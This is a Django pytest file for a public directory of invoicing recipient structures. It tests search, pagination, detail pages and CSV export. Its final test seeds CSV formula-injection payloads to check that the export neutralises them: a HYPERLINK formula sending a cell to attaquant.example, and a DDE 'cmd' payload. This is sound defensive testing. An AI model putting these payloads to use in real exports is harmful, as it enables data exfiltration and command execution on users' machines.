import csv
import io
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from organisation.enums import OptionMoa, TypeIdentifiant
from organisation.views.annuaire import COLONNES_CSV, TAILLE_PAGE
from tests.factories import ServiceFactory, StructureFactory
from tests.organisation.annuaire import rectorat_de_bordeaux

pytestmark = pytest.mark.django_db

ENTETE_CSV = (
    "TypeIdentifiant;Identifiant;RaisonSociale;EmetteurEdi;RecepteurEdi;GestionStatutMiseEnPaiement;"
    "GestionEngagement;GestionService;GestionServiceEngagement;EstMOA;EstMOAUniquement;StructureActive;Adresse;"
    "ComplementAdresse1;ComplementAdresse2;CodePostal;Ville;NumTelephone;Courriel;CodePays;LibellePays"
)


def _rechercher(client, **criteres):
    return client.get(reverse("annuaire"), criteres)


def _noms(response) -> list[str]:
    return [ligne["structure"].raison_sociale for ligne in response.context["lignes"]]


def _csv(response) -> list[list[str]]:
    contenu = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(contenu), delimiter=";"))


def _lignes_html(response) -> list[str]:
    return re.findall(r'<tr data-testid="structure-annuaire">(.*?)</tr>', response.content.decode(), re.S)


def test_sans_critere_invitation_a_rechercher_sans_liste(client):
    StructureFactory.create_batch(3, publique=True)
    response = client.get(reverse("annuaire"))
    assert response.status_code == 200
    contenu = response.content.decode()
    assert 'data-testid="invitation-recherche"' in contenu
    assert 'data-testid="structure-annuaire"' not in contenu
    assert response.context["lignes"] == []
    assert "Exporter l'annuaire (CSV)" in contenu
    assert f'href="{reverse("exporter_annuaire")}"' in contenu
    assert 'aria-current="page">Annuaire des structures publiques' in contenu


def test_recherche_par_siret_exact_et_par_prefixe(client):
    mairie = StructureFactory(publique=True, identifiant="21750001600019", raison_sociale="Ville de Paris")
    region = StructureFactory(publique=True, identifiant="23750007900312", raison_sociale="Région Île-de-France")
    StructureFactory(publique=True, identifiant="11000201100044", raison_sociale="Services du Premier ministre")

    exact = _rechercher(client, siret="217 500 016 00019")
    assert _noms(exact) == [mairie.raison_sociale]

    prefixe = _rechercher(client, siret="2")
    assert prefixe.status_code == 200
    assert "Saisissez au moins 3 chiffres du SIRET" in prefixe.content.decode()
    assert prefixe.context["lignes"] == []

    prefixe = _rechercher(client, siret="2375")
    assert _noms(prefixe) == [region.raison_sociale]


def test_recherche_par_raison_sociale_insensible_a_la_casse_et_par_ville(client):
    lyon = StructureFactory(publique=True, raison_sociale="Métropole de Lyon", ville="Lyon")
    commune = StructureFactory(publique=True, raison_sociale="Commune de Lyons-la-Forêt", ville="Lyons-la-Forêt")
    StructureFactory(publique=True, raison_sociale="Département du Rhône", ville="Lyon")

    assert _noms(_rechercher(client, raison_sociale="LYON")) == [commune.raison_sociale, lyon.raison_sociale]
    assert _noms(_rechercher(client, raison_sociale="lyon", ville="forêt")) == [commune.raison_sociale]


def test_structures_privees_et_non_validees_jamais_listees(client):
    publique = StructureFactory(publique=True, raison_sociale="Hôpital public de Nantes")
    inactive = StructureFactory(publique=True, inactive=True, raison_sociale="Hôpital ancien de Nantes")
    StructureFactory(raison_sociale="Hôpital privé de Nantes")
    StructureFactory(publique=True, en_attente=True, raison_sociale="Hôpital en attente de Nantes")
    StructureFactory(publique=True, refusee=True, raison_sociale="Hôpital refusé de Nantes")

    response = _rechercher(client, raison_sociale="hôpital")
    # An inactive public structure stays in the directory (as on Chorus Pro), flagged « Active : Non ».
    assert _noms(response) == [inactive.raison_sociale, publique.raison_sociale]
    contenu = response.content.decode()
    assert "privé" not in contenu
    assert "en attente de Nantes" not in contenu
    assert "refusé de Nantes" not in contenu

    lignes = _csv(client.get(reverse("exporter_annuaire")))
    assert sorted(ligne[2] for ligne in lignes[1:]) == sorted([inactive.raison_sociale, publique.raison_sociale])


def test_drapeaux_affiches_en_badges(client):
    StructureFactory(
        publique=True,
        raison_sociale="Université de Rennes",
        engagement_obligatoire=True,
        code_service_obligatoire=False,
        service_ou_engagement_obligatoire=True,
        mise_en_paiement_non_remontee=True,
        option_moa=OptionMoa.MOA_UNIQUEMENT,
    )
    StructureFactory(publique=True, inactive=True, raison_sociale="Université de Vannes")

    response = _rechercher(client, raison_sociale="université")
    contenu = response.content.decode()
    for libelle in [
        "Engagement obligatoire",
        "Code service obligatoire",
        "Service ou engagement obligatoire",
        "Gère la mise en paiement",
        "À une MOA",
        "MOA uniquement",
        "Active",
    ]:
        assert f'<th scope="col">{libelle}</th>' in contenu
    rennes, vannes = _lignes_html(response)
    badges = lambda ligne: re.findall(r'class="fr-badge[^"]*">\s*(Oui|Non)\s*</p>', ligne)  # noqa: E731
    # engagement, code service, service ou engagement, mise en paiement, MOA, MOA uniquement, active
    assert badges(rennes) == ["Oui", "Non", "Oui", "Non", "Oui", "Oui", "Oui"]
    assert badges(vannes) == ["Non", "Non", "Non", "Oui", "Non", "Non", "Non"]
    assert "fr-badge--success" in rennes


def test_siret_avec_des_lettres_message_francais_et_statut_200(client):
    StructureFactory(publique=True)
    response = _rechercher(client, siret="2175A")
    assert response.status_code == 200
    contenu = response.content.decode()
    assert "Le SIRET ne doit contenir que des chiffres." in contenu
    assert "fr-input-group--error" in contenu
    assert response.context["lignes"] == []
    assert 'data-testid="structure-annuaire"' not in contenu


def test_pagination_par_curseur_pages_disjointes_sans_offset(client):
    StructureFactory.create_batch(TAILLE_PAGE + 12, publique=True, raison_sociale="Commune de Saint-Martin")
    StructureFactory.create_batch(3, publique=True, raison_sociale="Commune d'Arles")

    with CaptureQueriesContext(connection) as requetes:
        premiere = _rechercher(client, raison_sociale="commune")
    assert premiere.status_code == 200
    structures_1 = [ligne["structure"] for ligne in premiere.context["lignes"]]
    assert len(structures_1) == TAILLE_PAGE
    url_suivant = premiere.context["url_suivant"]
    assert url_suivant
    assert f'href="{url_suivant.replace("&", "&amp;")}"' in premiere.content.decode()
    assert ">Suivant</a>" in premiere.content.decode()

    with CaptureQueriesContext(connection) as requetes_suite:
        seconde = client.get(reverse("annuaire") + url_suivant)
    structures_2 = [ligne["structure"] for ligne in seconde.context["lignes"]]
    assert len(structures_2) == 15
    assert seconde.context["url_suivant"] == ""

    ids_1 = {s.pk for s in structures_1}
    ids_2 = {s.pk for s in structures_2}
    assert not ids_1 & ids_2
    attendus = [
        s.pk
        for s in sorted(
            structures_1 + structures_2,
            key=lambda s: (s.raison_sociale, s.pk),
        )
    ]
    assert [s.pk for s in structures_1 + structures_2] == attendus
    assert structures_1[0].raison_sociale == "Commune d'Arles"
    for capture in (requetes, requetes_suite):
        sql = " ".join(q["sql"] for q in capture.captured_queries)
        assert "OFFSET" not in sql.upper()
        assert "LIMIT 51" in sql.upper()


def test_curseur_malforme_revient_au_debut(client):
    StructureFactory(publique=True, raison_sociale="Commune de Brest")
    response = client.get(reverse("annuaire"), {"raison_sociale": "brest", "apres": "n'importe quoi"})
    assert response.status_code == 200
    assert _noms(response) == ["Commune de Brest"]


def test_nombre_de_requetes_borne(client, django_assert_max_num_queries):
    for structure in StructureFactory.create_batch(30, publique=True, raison_sociale="Collège public"):
        ServiceFactory.create_batch(2, structure=structure)
    with django_assert_max_num_queries(2):
        response = _rechercher(client, raison_sociale="collège")
    assert len(response.context["lignes"]) == 30

    structure = StructureFactory(publique=True)
    ServiceFactory.create_batch(10, structure=structure)
    with django_assert_max_num_queries(3):
        response = client.get(reverse("annuaire_structure", args=[structure.pk]))
    assert response.content.decode().count('data-testid="service"') == 10

    with django_assert_max_num_queries(2):
        lignes = _csv(client.get(reverse("exporter_annuaire")))
    assert len(lignes) == 1 + 31


def test_detail_structure_publique_avec_services_actifs_seulement(client):
    structure = rectorat_de_bordeaux("Rectorat de Bordeaux")
    ServiceFactory(
        structure=structure, code="DAF", libelle="Division des affaires financières", engagement_obligatoire=True
    )
    ServiceFactory(structure=structure, code="DEC", libelle="Division des examens et concours")
    ServiceFactory(structure=structure, code="ANCIEN", libelle="Service supprimé", inactif=True)
    ServiceFactory(code="AUTRE", libelle="Service d'une autre structure")

    response = client.get(reverse("annuaire_structure", args=[structure.pk]))
    assert response.status_code == 200
    contenu = response.content.decode()
    assert "<h1>Rectorat de Bordeaux</h1>" in contenu
    assert "11000201100044" in contenu
    assert "5 RUE JOSEPH DE CARAYON LATOUR" in contenu
    assert "33060 BORDEAUX" in contenu
    assert "Structure avec MOA" in contenu
    assert [s.code for s in response.context["services"]] == ["DAF", "DEC"]
    assert "Division des affaires financières" in contenu
    assert "Service supprimé" not in contenu
    assert "Service d&#x27;une autre structure" not in contenu
    drapeaux = {d["libelle"]: d["valeur"] for d in response.context["drapeaux"]}
    assert drapeaux["Code service obligatoire"] is True
    assert drapeaux["Engagement obligatoire"] is False
    assert drapeaux["À une MOA"] is True
    assert drapeaux["MOA uniquement"] is False
    assert f'href="{reverse("annuaire")}"' in contenu


@pytest.mark.parametrize(
    "traits",
    [{}, {"publique": True, "en_attente": True}, {"publique": True, "refusee": True}],
    ids=["privee", "en-attente", "refusee"],
)
def test_detail_404_hors_annuaire(client, traits):
    structure = StructureFactory(**traits)
    assert client.get(reverse("annuaire_structure", args=[structure.pk])).status_code == 404


def test_export_csv_entete_exacte_et_booleens(client):
    etat = StructureFactory(
        publique=True,
        identifiant="11000201100044",
        raison_sociale="Services du Premier ministre",
        emetteur_edi=True,
        recepteur_edi=False,
        mise_en_paiement_non_remontee=False,
        engagement_obligatoire=True,
        code_service_obligatoire=True,
        service_ou_engagement_obligatoire=False,
        option_moa=OptionMoa.AVEC_MOA,
        adresse="57 RUE DE VARENNE",
        complement_adresse="Hôtel de Matignon",
        code_postal="75007",
        ville="PARIS",
        telephone="01 42 75 80 00",
        courriel="factures@pm.gouv.fr",
    )
    StructureFactory(
        publique=True,
        inactive=True,
        identifiant="21750001600019",
        raison_sociale="Ville de Paris ; Direction des finances",
        recepteur_edi=True,
        mise_en_paiement_non_remontee=True,
        option_moa=OptionMoa.MOA_UNIQUEMENT,
    )
    StructureFactory(raison_sociale="Entreprise privée")
    StructureFactory(publique=True, en_attente=True)

    response = client.get(reverse("exporter_annuaire"))
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="annuaire_destinataires.csv"'
    contenu = b"".join(response.streaming_content).decode("utf-8")
    assert contenu.splitlines()[0] == ENTETE_CSV
    assert ";".join(COLONNES_CSV) == ENTETE_CSV

    lignes = list(csv.DictReader(io.StringIO(contenu), delimiter=";"))
    assert len(lignes) == 2
    premier = lignes[0]
    assert premier == {
        "TypeIdentifiant": "1",
        "Identifiant": "11000201100044",
        "RaisonSociale": etat.raison_sociale,
        "EmetteurEdi": "true",
        "RecepteurEdi": "false",
        "GestionStatutMiseEnPaiement": "true",
        "GestionEngagement": "true",
        "GestionService": "true",
        "GestionServiceEngagement": "false",
        "EstMOA": "true",
        "EstMOAUniquement": "false",
        "StructureActive": "true",
        "Adresse": "57 RUE DE VARENNE",
        "ComplementAdresse1": "Hôtel de Matignon",
        "ComplementAdresse2": "",
        "CodePostal": "75007",
        "Ville": "PARIS",
        "NumTelephone": "01 42 75 80 00",
        "Courriel": "factures@pm.gouv.fr",
        "CodePays": "FR",
        "LibellePays": "France",
    }
    second = lignes[1]
    # A « ; » inside a value is quoted, so the line keeps its 21 columns.
    assert second["RaisonSociale"] == "Ville de Paris ; Direction des finances"
    assert [second[c] for c in ["EmetteurEdi", "RecepteurEdi", "GestionStatutMiseEnPaiement"]] == [
        "false",
        "true",
        "false",
    ]
    assert [second[c] for c in ["EstMOA", "EstMOAUniquement", "StructureActive"]] == ["true", "true", "false"]


def test_export_csv_code_du_type_identifiant(client):
    StructureFactory(publique=True, type_identifiant=TypeIdentifiant.TAHITI, identifiant="C12345")
    lignes = _csv(client.get(reverse("exporter_annuaire")))
    assert lignes[1][:2] == ["5", "C12345"]


def test_export_csv_respecte_les_criteres_de_recherche(client):
    StructureFactory(publique=True, raison_sociale="Commune de Lille")
    StructureFactory(publique=True, raison_sociale="Commune de Lens")
    StructureFactory(publique=True, raison_sociale="Département du Nord")

    page = _rechercher(client, raison_sociale="commune")
    url_export = page.context["url_export"]
    assert url_export == reverse("exporter_annuaire") + "?raison_sociale=commune"
    lignes = _csv(client.get(url_export))
    assert [ligne[2] for ligne in lignes[1:]] == ["Commune de Lens", "Commune de Lille"]

    invalide = client.get(reverse("exporter_annuaire"), {"siret": "abc"})
    assert invalide.status_code == 400
    assert "Le SIRET ne doit contenir que des chiffres." in invalide.content.decode()


def test_pages_publiques_sans_connexion(client):
    structure = StructureFactory(publique=True)
    for url in [reverse("annuaire"), reverse("annuaire_structure", args=[structure.pk])]:
        response = client.get(url)
        assert response.status_code == 200
        assert "Se connecter" in response.content.decode()
    assert client.get(reverse("exporter_annuaire")).status_code == 200


def test_export_csv_public_neutralise_les_formules(client):
    """The public directory export disarms what a structure typed, as every other export does."""
    StructureFactory(
        publique=True,
        raison_sociale='=HYPERLINK("http://attaquant.example/?x="&A1;"Cliquez")',
        adresse="+33 cmd|' /C calc'!A0",
        ville="@SUM(1+1)",
        complement_adresse="-2+3",
    )
    lignes = list(csv.DictReader(io.StringIO(_csv_texte(client)), delimiter=";"))
    assert len(lignes) == 1
    ligne = lignes[0]
    assert ligne["RaisonSociale"] == '\'=HYPERLINK("http://attaquant.example/?x="&A1;"Cliquez")'
    assert ligne["Adresse"] == "'+33 cmd|' /C calc'!A0"
    assert ligne["Ville"] == "'@SUM(1+1)"
    assert ligne["ComplementAdresse1"] == "'-2+3"
    assert not any(valeur.startswith(("=", "+", "-", "@")) for valeur in ligne.values())


def _csv_texte(client) -> str:
    response = client.get(reverse("exporter_annuaire"))
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8")
